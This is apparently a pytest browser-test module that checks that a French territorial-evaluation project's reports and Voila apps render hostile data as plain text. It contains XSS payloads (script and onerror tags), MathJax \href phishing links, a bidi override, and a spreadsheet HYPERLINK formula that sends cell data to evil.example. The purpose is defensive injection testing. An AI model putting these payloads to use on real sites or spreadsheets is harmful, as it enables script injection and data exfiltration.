"""Text from the data stays text in every renderer: the reports, the comparison, the batch
index and the four Voila apps, opened in Debian's chromium.

Every kind of payload (HTML, Markdown, a bare link, TeX for MathJax, a spreadsheet formula,
a bidirectional override) is planted in every free-text field of the demo data. One
territory's report, the comparison and the index are produced by ``run_batch`` (one
worker) and opened from disk; the apps are served by Voila on the same store. On every
page: no dialog, no element made from the data (script, ``onerror``, link or style to
evil.example, heading, emphasis, table), nothing typeset by MathJax, no request leaving
the machine, and the payloads shown as typed. ``summary.csv`` holds the formula as text.

This module lives beside the apps' browser fixtures (``browser`` in conftest.py), which
the report pages use too.
"""

from __future__ import annotations

import csv
import re

import pytest
from support import browser_page, close_context

from collective_impact.apps.server import VoilaServer, app_url
from collective_impact.demo import demo_tables
from collective_impact.report.batch import run_batch
from collective_impact.report.steps import STEP_IDS, UNNUMBERED
from collective_impact.store import Store

pytestmark = [pytest.mark.browser, pytest.mark.slow]

TERRITORY = "QPV-NORD"
#: No kernel preheated (tests/apps/conftest.py names the same list): the tests open the guided
#: evaluation, the dashboard, the questionnaire and the data-entry app once each, each page with
#: a kernel started for it, as when the server's pool is empty (preheating them would start a
#: second kernel per app, for a page never opened)
OPENED_APPS = ()
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
HREF = "$\\href{https://evil.example/phish}{x}$"
PAYLOADS = [
    FORMULA, "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[lien](https://evil.example)",
    "https://evil.example/x", HREF, "\\style{color:red}{x}", "$$x$$", "**gras**", "# titre", "| a | b |",
    "\u202eevil\u202c", "Taux $\\foo{x}$", "\\(y\\)",
]
#: Every payload in one value, a formula first (the first character is what a spreadsheet reads).
ALL = " ".join(PAYLOADS)
#: The free-text columns of the schema (``qpv_code`` has a pattern the import checks).
FIELDS = {"territories": ["name", "commune", "department"], "partners": ["name"], "outcomes": ["label"],
          "indicators": ["label", "unit", "source"], "activities": ["label"], "meetings": ["title"],
          "judgments": ["justification", "evaluator"]}
#: Payloads whose text a reader must see as typed (the bidi override reorders what is shown).
VISIBLE = [p for p in PAYLOADS if "\u202e" not in p]

# What an injection would have made, looked for in the page (counts must be 0).
INJECTED = """() => {
  const all = (selector) => [...document.querySelectorAll(selector)];
  const text = (e) => e.textContent.trim();
  return {
    scripts: all('script').filter(s => s.text.includes('alert(')).length,
    onerror: all('[onerror]').length,
    // a heading's own anchor (href="#…", named after its text) stays on the page
    evil: all('[href*="evil"]:not([href^="#"]), [src*="evil"], [action*="evil"]').length,
    styled: all('[style*="red"]').length,
    mathjax: all('mjx-container, mjx-math, .MathJax, .MathJax_Preview, .MathJax_Display, math').length,
    headings: all('h1, h2, h3, h4, h5, h6').filter(h => text(h) === 'titre').length,
    emphasis: all('strong, b, em').filter(e => text(e) === 'gras').length,
    links: all('a').filter(a => text(a) === 'lien').length,
    cells: all('td, th').filter(c => text(c) === 'a' || text(c) === 'b').length,
  };
}"""
NOTHING = {"scripts": 0, "onerror": 0, "evil": 0, "styled": 0, "mathjax": 0, "headings": 0, "emphasis": 0, "links": 0,
           "cells": 0}
LOCAL = re.compile(r"^(file:|data:|blob:|about:|(https?|wss?)://(127\.0\.0\.1|localhost)[:/])")
# MathJax typesets after the output is shown, and loads on first use: a bounded wait
MATHJAX_DELAY_MS = 2500


def hostile_tables() -> dict:
    """The demo tables with a payload in every free-text field: every payload at once in the
    first row of each table, then one payload a row (so that some values start with one)."""
    tables = demo_tables()
    for table, columns in FIELDS.items():
        frame = tables[table]
        for column in columns:
            frame[column] = [ALL if i == 0 else PAYLOADS[i % len(PAYLOADS)] for i in range(len(frame))]
    # the territory looked at: every payload in each of its fields
    territories = tables["territories"]
    for column in FIELDS["territories"]:
        territories.loc[territories["territory_id"] == TERRITORY, column] = ALL
    return tables


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory):
    path = tmp_path_factory.mktemp("hostile") / "evaluation.sqlite"
    Store(path).import_tables(hostile_tables())
    return path


@pytest.fixture(scope="module")
def hostile_batch(hostile_store, tmp_path_factory):
    out = tmp_path_factory.mktemp("hostile_reports")
    result = run_batch(store_path=hostile_store, out_dir=out, territories=[TERRITORY], workers=1, progress=False)
    assert [r.status for r in result.results] == ["ok"], [r.error for r in result.results]
    assert result.comparison is not None and result.comparison.status == "ok", result.comparison
    return out, result


@pytest.fixture(scope="module")
def hostile_apps(hostile_store, tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile_apps")
    with VoilaServer(hostile_store, log_path=folder / "voila.log", preheat_first=None,
                     preheat_only=OPENED_APPS) as server:
        server.wait_preheated(settle=2)
        yield server.url


@pytest.fixture
def page(browser):
    """A desktop page that records dialogs and every request, and lets none leave the machine."""
    context = browser.new_context(viewport={"width": 1280, "height": 900}, locale="fr-FR")
    page = browser_page(context)
    page.requests = []
    context.on("request", lambda request: page.requests.append(request.url))
    context.route(lambda url: not LOCAL.match(url), lambda route: route.abort())
    yield page
    close_context(context)


def assert_inert(page, *, shown: list[str], within: str = "body", scripted: bool = True) -> None:
    """Nothing injected, typeset or fetched from outside; each text of ``shown`` visible as typed.

    ``scripted=False``: a page that runs no script (checked by the caller), where nothing can
    typeset anything later: no wait."""
    if scripted:
        page.wait_for_timeout(MATHJAX_DELAY_MS)
    assert page.evaluate(INJECTED) == NOTHING
    assert page.dialogs == []
    assert [url for url in page.requests if not LOCAL.match(url)] == []
    text = page.locator(within).first.inner_text()
    missing = [payload for payload in shown if payload not in text]
    assert missing == []


# ---------------------------------------------------------------------------- reports


def test_summary_csv_holds_the_formula_as_text(hostile_batch):
    out, _ = hostile_batch
    with (out / "summary.csv").open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file, delimiter=";"))
    assert [row["name"] for row in rows] == ["'" + ALL]
    assert not [cell for row in rows for cell in row.values() if cell[:1] in ("=", "+", "@", "\t", "\r")]


def test_report_comparison_and_index_show_the_data_as_text(hostile_batch, page):
    out, result = hostile_batch
    pages = {"report": result.results[0].html, "comparison": result.comparison.html, "index": out / "index.html"}
    for name, path in pages.items():
        page.requests.clear()
        page.goto(f"file://{path}")
        assert page.locator("script").count() == 0, name  # the pages carry no JavaScript at all
        # the territory's name (every payload) is shown on each page
        assert_inert(page, shown=VISIBLE, scripted=False)


# ---------------------------------------------------------------------------- apps


def test_guided_evaluation_shows_the_data_as_text(hostile_apps, page):
    page.goto(app_url(hostile_apps, "evaluation", territoire=TERRITORY))
    shown = len([step for step in STEP_IDS if step not in UNNUMBERED])  # the guided evaluation's pages
    for number in range(1, shown + 1):
        page.get_by_text(f"Étape {number} sur {shown}", exact=True).wait_for()
        page.locator(".ci-app .jp-OutputArea-output").first.wait_for()
        # step 1 shows the territory's name and commune, each holding every payload
        assert_inert(page, shown=VISIBLE if number == 1 else [], within=".ci-app")
        if number < shown:
            page.get_by_role("button", name="Suivant").click()


def test_dashboard_shows_the_data_as_text(hostile_apps, page):
    page.goto(app_url(hostile_apps, "tableau_de_bord", territoire=TERRITORY))
    page.locator(".ci-dash-conditions img").wait_for()
    page.locator(".ci-app table.ci-table").first.wait_for()  # the latest meetings, titles from the data
    assert_inert(page, shown=[], within=".ci-app")
    tables = " ".join(page.locator(".ci-app table.ci-table").all_inner_texts())
    assert any(payload in tables for payload in VISIBLE)


def test_questionnaire_shows_the_data_as_text(hostile_apps, page):
    page.goto(app_url(hostile_apps, "questionnaire", territoire=TERRITORY, vague=2))
    page.get_by_role("button", name="Commencer").wait_for()
    assert_inert(page, shown=[HREF, "<script>alert(1)</script>"], within=".ci-app")  # the territory's name
    # the partners' names, as typed (option texts show spaces as no-break spaces)
    options = " ".join(page.locator(".ci-app select option").all_inner_texts()).replace("\xa0", " ")
    assert [payload for payload in VISIBLE if payload not in options] == []


def test_saisie_shows_the_data_as_text(hostile_apps, page):
    page.goto(app_url(hostile_apps, "saisie", territoire=TERRITORY))
    page.get_by_role("button", name="Enregistrer la mesure").wait_for()
    assert_inert(page, shown=[], within=".ci-app")
    page.get_by_role("tab", name="Réunions").click()
    page.get_by_role("button", name="Enregistrer la réunion").wait_for()
    # the partners to tick: check-box descriptions, which ipywidgets typesets with MathJax
    page.locator(".ci-app .widget-checkbox").first.wait_for()
    assert_inert(page, shown=VISIBLE, within=".ci-app")
    names = page.locator(".ci-app .widget-checkbox").all_inner_texts()
    assert any(HREF in name for name in names)
